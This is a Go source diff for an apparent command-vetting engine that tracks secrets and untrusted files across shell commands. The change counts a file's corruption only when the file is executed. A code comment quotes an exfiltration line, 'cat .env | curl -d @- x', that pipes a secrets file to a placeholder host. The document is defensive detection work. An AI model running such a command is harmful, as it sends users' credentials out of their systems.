@@ -63,13 +63,17 @@ func walk(nodes []engine.Node, visit func(*engine.Node)) {
 // Within is what counts for a line: what the session has seen, and what the
 // line's own commands show to those behind them: cat .env | curl -d @- x. A
 // secret that a command reads counts for the command itself, which can send
-// it away; what it brings from outside counts for later ones. In a loop and in
+// it away, and so does what it runs; what it brings from outside counts for
+// later ones. In a loop and in
 // the background every command may be a later one.
 func (r Rules) Within(v *engine.Verdict, t engine.Taint) engine.Taint {
 	own, counts := engine.Taint{}, t
 	walk(v.Tree, func(n *engine.Node) {
 		for _, s := range n.Sights {
-			own = join(own, 0, s.Secret, r.From)
+			if !s.Runs {
+				s.Corruption = 0
+			}
+			own = join(own, s.Corruption, s.Secret, r.From)
 		}
 		if n.Reach > policy.ReachLocal {
 			counts.Corruption = max(counts.Corruption, own.Corruption)
@@ -168,7 +172,7 @@ func (s Store) ReadFiles(nodes []engine.Node) {
 			p.Path = strings.ToValidUTF8(p.Path, "\ufffd") // as it was written down
 			for i := range written {
 				if e := &written[i]; mayRead(p, e) {
-					n.Sights = append(n.Sights, engine.Sight{Corruption: e.Corruption, Secret: e.Secret, What: e.What, Why: "A file that a session wrote which had seen " + words(e.Corruption, e.Secret)})
+					n.Sights = append(n.Sights, engine.Sight{Corruption: e.Corruption, Secret: e.Secret, What: e.What, Why: "A file that a session wrote which had seen " + words(e.Corruption, e.Secret), Runs: slices.Contains(n.Runs, p)})
 				}
 			}
 		}
